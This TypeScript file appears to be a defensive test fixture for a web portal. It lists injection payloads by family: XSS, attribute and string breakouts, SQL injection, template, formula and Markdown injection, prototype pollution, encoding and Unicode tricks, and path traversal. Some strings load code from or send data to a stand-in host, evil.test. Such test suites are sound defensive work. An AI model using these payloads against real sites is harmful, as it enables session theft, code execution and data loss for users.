/**
 * Texts that mean something to a browser, a template engine, a spreadsheet, a parser or a careless program, by family. To
 * the portal they are texts. Each fits into the shortest field that people write into, and two with a blank between them
 * into a name (59 characters each), on one line; what is longer, and what has line breaks, is at the end. What runs is called `pwned`, and so is what it sets.
 */
const families = {
  // What the simplest page takes for a program, and ways around a filter that looks for one.
  script: [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.test/x.js class=pwned></sCrIpT>',
    '</script><script>window.pwned=1</script>',
    '<script type=module>import("//evil.test/m.js")</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(3)//<</script>',
    '<script/src="data:,alert(4)"></script>',
  ],
  // A program that hangs on an element, and runs when it is loaded, fails, gets the focus or is opened.
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<img src=x class=pwned onerror="window.pwned=1">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<body onload=alert(1)>',
    '<input autofocus onfocus=alert(1) class=pwned>',
    '<details open ontoggle=alert(1) class=pwned>x',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1) class=pwned>x</marquee>',
    '<div onpointerover="alert(1)" class=pwned>over</div>',
    '<a href=# onclick=alert(1) class=pwned>click</a>',
    '<img/src/onerror=alert(1)>',
  ],
  // The same by way of drawings and formulas, which have rules of their own.
  foreign: [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x',
    '<svg><use href="data:image/svg+xml,<svg id=pwned>#pwned"/>',
    '<svg><image href=//evil.test/i.png onerror=alert(1)>',
    '<svg><foreignObject><iframe src=//evil.test>',
    '<math href="javascript:alert(1)" class=pwned>click</math>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  ],
  // Pages in the page, and forms that send elsewhere.
  frames: [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="//evil.test/x.swf" class=pwned>',
    '<form action=//evil.test><button class=pwned>Sign in',
    '<button formaction="javascript:alert(1)" class=pwned>Go',
    '<dialog open class=pwned>Your session has ended</dialog>',
  ],
  // What belongs into the head of a page and changes all of it; what hides or covers the rest.
  page: [
    '<base href="//evil.test/">',
    '<meta http-equiv=refresh content="0;url=//evil.test/">',
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<link rel=prefetch href=//evil.test/p class=pwned>',
    '<style>@import "//evil.test/x.css";</style>',
    '<style>*{background:url(//evil.test/c)}</style>',
    '<p style="background:url(//evil.test/b)" class=pwned>x</p>',
    '<div style="position:fixed;inset:0" class=pwned>all</div>',
    '<template class=pwned><img src=x onerror=alert(1)>',
    '<title>pwned</title>',
    '<plaintext>',
    '<!-- the rest of the page',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet href="//evil.test/x.xsl"?>',
  ],
  // Addresses that are programs or lead elsewhere, where an address is asked for.
  addresses: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(2)//',
    'java&#9;script:alert(1)',
    'javascript:alert(origin)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg',
    'vbscript:msgbox(1)',
    '//evil.test/where',
    'https://evil.test/?c=cookie',
    '/\\evil.test/back',
    'file:///etc/passwd',
    '../../api/session',
    '..%2f..%2fetc%2fpasswd',
  ],
  // Out of an attribute or an element that a text was put into.
  breakouts: [
    '" onmouseover="alert(1)',
    '" onfocus="alert(origin)" autofocus="',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '` onerror=alert(1) x=`',
    '" style="position:fixed;inset:0',
    '</textarea><img src=x onerror=alert(1)>',
    '</title><svg onload=alert(1)>',
    '</option></select><img src=x onerror=alert(1)>',
    '</style><script>alert(1)</script>',
    '--><script>alert(1)</script>',
  ],
  // Out of a string of a program, of JSON or of SQL; what React or a parser takes for an object.
  strings: [
    '";alert(1);//',
    "'-alert(origin)-'",
    '\\";alert(1);//',
    '"}],"x":"</script><script>alert(1)</script>',
    '{"$$typeof":"react.element","type":"img"}',
    '{"dangerouslySetInnerHTML":{"__html":"<img>"}}',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
    "'; DROP TABLE leads; --",
    "' OR 'a'='a",
    '100% _ of 50\\%',
  ],
  // Names that every object has already.
  prototypes: [
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    '__defineGetter__',
    '__proto__[pwned]=1',
    'constructor.prototype.pwned=1',
    '{"__proto__":{"pwned":1}}',
  ],
  // What template engines fill in, the portal's own placeholders among it.
  templates: [
    '{{7*7}}',
    "{{constructor.constructor('alert(1)')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a text here
    '${alert(1)}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a text here
    '${{7*7}} #{7*7} @(7*7)',
    '<%= 7*7 %>',
    '{% raw %}{{x}}{% endraw %}',
    '{{advisor}} of {{dealer}}',
    '{{customer_first_name}} {{opt_out}}',
    '%s%s%n %(name)s {0} $1 $&',
  ],
  // What would be a picture, a link or a heading in Markdown.
  markdown: [
    '![x](//evil.test/i.png)',
    '[click](javascript:alert(1))',
    '[x]: //evil.test "t"',
    '<https://evil.test/auto>',
    '**bold** _it_ ~~out~~ `code`',
    '# A heading | a | b |',
  ],
  // What a spreadsheet calculates.
  formulas: [
    '=HYPERLINK("//evil.test","Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '=IMPORTXML("//evil.test","//a")',
    '"=1+1","=2+2"',
  ],
  // Written otherwise, in the hope that somebody puts it right.
  encodings: [
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3c;svg onload=alert(1)&#x3e;',
    '&lt;script&gt;alert(origin)&lt;/script&gt;',
    '&amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '%253Cscript%253E',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '%00<script>alert(1)</script>',
    '\\0<script>alert(1)</script>',
    '%0d%0aSet-Cookie:%20pwned=1',
    '%c0%bcscript%c0%be',
  ],
  // Characters that turn the direction, are not seen, look like others or become others.
  characters: [
    '\u202egnp.tseb<b>\u202c',
    '\u2066<b>\u2069 isolated',
    'a\u200bb\u200cc\u200dd \u2060 zero wide',
    'tags\u{e003c}\u{e0062}\u{e003e}\u{e007f} not seen',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '<\u017fcript>alert(1)</\u017fcript>',
    'Z\u0351\u0363\u0357a\u0353\u0346l\u0353\u035fg\u0353\u0345o',
    '\u{1f469}\u200d\u{1f527}\ufe0f one sign or four',
    '\u05d0\u05d1 <b> \u05d2 "\u05d3"',
    'ja\u00advascript:alert(1)',
    '\u2400<img src=x onerror=alert(1)>\u2400',
    'no character \ufffe here',
    'e\u0301 and \u00e9, \u212b and \u00c5',
  ],
  // What a cleaner takes for harmless and a browser, at the second reading, does not.
  mutations: [
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>',
    '<math><style><!--</style><img title="--&gt;&lt;img src=1>',
    '<form><math><mtext></form><form><mglyph><style></math><img>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<table><td><img src=x onerror=alert(1)></table>',
  ],
  // Elements that take the names of what a program looks for in the page.
  clobbering: [
    '<form name=location><input name=href class=pwned>',
    '<a id=content class=pwned><a id=content name=user>',
    '<img name=cookie class=pwned>',
  ],
} as const

/** Each payload once. */
export const payloads: readonly string[] = Object.values(families).flat()

/** One of each family, for what takes longer to look at. */
export const oneOfEach: readonly string[] = Object.values(families).map(f => f[0])

/** For the fields that take a page of text, and for names as long as they may be. */
export const longest = {
  name: '<b class=pwned>'.repeat(8),
  note: '<img src=x onerror=alert(1)>\n\t'.repeat(130).trim(),
}

/** A text on one line with single blanks, as the portal keeps what belongs on one. */
export const onOneLine = (text: string) => text.trim().replace(/\s+/g, ' ')

/** How many characters a text has, as the contract counts them. */
export const sizeOf = (text: string) => [...text].length
